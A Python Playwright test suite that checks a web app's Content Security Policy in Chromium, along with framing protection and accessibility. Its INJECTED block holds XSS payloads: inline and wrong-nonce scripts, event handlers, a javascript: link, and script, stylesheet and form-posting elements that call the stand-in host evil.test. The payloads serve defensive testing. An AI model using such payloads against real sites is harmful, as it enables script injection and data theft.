"""The security policy of the pages in a real Chromium: what is injected does not act, and hostile words do not even try to."""

from typing import Any, cast

import pytest
from playwright.async_api import Browser, Page, Route

from tests import test_pages_in_a_browser as walk
from tests.service.web.hostile import CORPUS, poison
from tests.service.web.matrix import ROLES, own, table
from tests.service.web.seeds import session_hash
from tests.test_pages_in_a_browser import Served, Window

served, browser = walk.served, walk.browser

WATCH = """
window.hits = []; window.broken = [];
window.xss = (what) => { window.hits.push(what || 'called'); };
addEventListener('securitypolicyviolation', (event) => window.broken.push(event.effectiveDirective));
"""
INJECTED = """
<base href="http://evil.test/">
<script>xss('inline')</script>
<script nonce="guessed">xss('wrong nonce')</script>
<script src="http://evil.test/x.js"></script>
<script src="/static/pages.js"></script>
<script type="module">xss('module')</script>
<img src="/nothing" onerror="xss('handler')">
<svg onload="xss('svg')"></svg>
<iframe srcdoc="<script>parent.xss('frame')</script>"></iframe>
<iframe src="/sign-in"></iframe>
<object data="/static/icon.svg"></object>
<style>h1 { color: rgb(1, 2, 3) !important }</style>
<link rel="stylesheet" href="http://evil.test/x.css">
<h2 id="styled" style="color: rgb(1, 2, 3)" onclick="xss('click')">x</h2>
<a id="pressed" href="javascript:xss('address')">x</a>
<form action="http://evil.test/take"><input name="csrf" value="x"><button id="sent">x</button></form>
"""


async def _inject(page: Page, elsewhere: list[str]) -> None:
    """Write INJECTED into every page that comes, below its own headers, and keep from where else something is asked for."""

    async def tamper(route: Route) -> None:
        if "evil.test" in route.request.url:
            elsewhere.append(route.request.url)
            await route.abort()
        elif route.request.resource_type == "document":
            answer = await route.fetch()
            await route.fulfill(response=answer, body=(await answer.text()).replace("</main>", INJECTED + "</main>"))
        else:
            await route.continue_()

    await page.route("**/*", tamper)


@pytest.mark.parametrize("page_name", ["sign-in", "answer", "case"])
async def test_what_is_injected_into_a_page_does_not_act(served: Served, browser: Browser, page_name: str) -> None:
    context = await browser.new_context()
    context.set_default_timeout(10_000)
    await context.add_init_script(WATCH)
    window, elsewhere = await Window.open(context), list[str]()
    page = window.page
    if page_name == "case":
        await walk._sign_in(served, window, "quality", arrives_at="What needs you")
    await _inject(page, elsewhere)
    path = {"sign-in": "/sign-in", "answer": f"/answer/{served.seeds.answer_token}", "case": f"/cases/{served.seeds.live}"}[page_name]
    await page.goto(served.base + path)
    assert await page.locator("#styled").count() == 1
    for place in ("#styled", "h1"):
        assert await page.locator(place).first.evaluate("element => getComputedStyle(element).color") != "rgb(1, 2, 3)"
    for place in ("styled", "pressed", "sent"):
        await page.evaluate("place => document.getElementById(place).click()", place)
    await page.wait_for_timeout(300)
    assert await page.evaluate("window.hits") == []
    assert elsewhere == []
    assert page.url == served.base + path
    broken = set(await page.evaluate("window.broken"))
    assert {"script-src-elem", "script-src-attr", "style-src-elem", "style-src-attr", "base-uri", "form-action"} <= broken
    # The page's own script, which has the nonce, ran.
    assert await page.evaluate("document.body.classList.contains('js-enabled')")
    await context.close()


async def test_hostile_words_act_on_no_page(served: Served, browser: Browser) -> None:
    words = " ".join(one for one in CORPUS if "xss" in one)
    local = await poison(cast(Any, served), words)
    context = await browser.new_context(viewport={"width": 1280, "height": 900})
    context.set_default_timeout(10_000)
    await context.add_init_script(WATCH)
    window, seeds = await Window.open(context), served.seeds
    await walk._sign_in(served, window, "quality", arrives_at="What needs you")
    for path in (
        "/",
        "/cases",
        f"/cases/{seeds.live}",
        f"/cases/{seeds.check}",
        f"/cases/{seeds.live}/notices/{seeds.live_notice}",
        "/trays",
        f"/trays/{local}",
        "/quarantine",
        f"/quarantine/{seeds.held}",
        "/directory",
        "/directory/E10000016",
        "/drift",
        "/policies/national?version=1",
        f"/answer/{seeds.answer_token}",
    ):
        await window.page.goto(served.base + path)
        shown = await window.page.content()
        assert "xss" in shown, path
        assert await window.page.evaluate("[window.hits, window.broken]") == [[], []], path
        assert await window.page.locator("main img, main iframe, main base, main form[action*='evil'], main script").count() == 0, path
    await context.close()
    assert window.complaints == []


async def test_another_site_can_neither_frame_nor_read_a_page(served: Served, browser: Browser) -> None:
    context = await browser.new_context()
    context.set_default_timeout(10_000)
    window = await Window.open(context)
    await walk._sign_in(served, window, "quality", arrives_at="What needs you")
    page, asked = window.page, list[tuple[str, int]]()
    page.on("response", lambda answer: asked.append((answer.url, answer.status)))
    frame = (
        f'<iframe src="{served.base}/cases"></iframe><img src="{served.base}/static/icon.svg"><script src="{served.base}/cases"></script>'
    )

    async def elsewhere(route: Route) -> None:
        await route.fulfill(body=f"<h1>Elsewhere</h1>{frame}", content_type="text/html")

    await page.route("http://evil.test/**", elsewhere)
    await page.goto("http://evil.test/")
    await page.wait_for_timeout(500)
    assert not any(["Cases" in await one.content() for one in page.frames[1:]])
    assert all(status != 200 for url, status in asked if url.endswith("/cases"))
    await context.close()


async def test_every_page_that_any_role_opens_is_clean_for_axe(served: Served, browser: Browser) -> None:
    if not walk.AXE.exists():
        walk._cannot_look("axe-core is not there: run npm ci, and the pages are checked for people who do not see or do not use a mouse.")
    rows, seen, faults = await table(cast(Any, served)), set[str](), list[str]()
    for who in ROLES:
        context = await browser.new_context(viewport={"width": 1280, "height": 900})
        window, secret = await Window.open(context), f"session-of-{who}-in-a-browser"
        async with served.database.begin() as work:
            now = served.clock.now
            await work.sessions.start(session_hash(secret), person_id=served.seeds.people[who], at=now, way="app", proved_at=now)
        await context.add_cookies([{"name": "session", "value": secret, "url": served.base, "httpOnly": True, "sameSite": "Lax"}])
        for page, row in rows.items():
            if page in seen or not page.startswith("GET") or row.expected(who, own=True) != 200:
                continue
            if page.endswith(("/live", ".{kind}")):  # a stream that never comes to an end, and files: no pages
                continue
            answer = await window.page.goto(served.base + own(page, row))
            if answer is not None and answer.headers.get("content-type", "").startswith("text/html"):
                faults += await walk._faults(window.page)
                seen.add(page)
        await context.close()
    assert len(seen) > 15
    assert faults == []
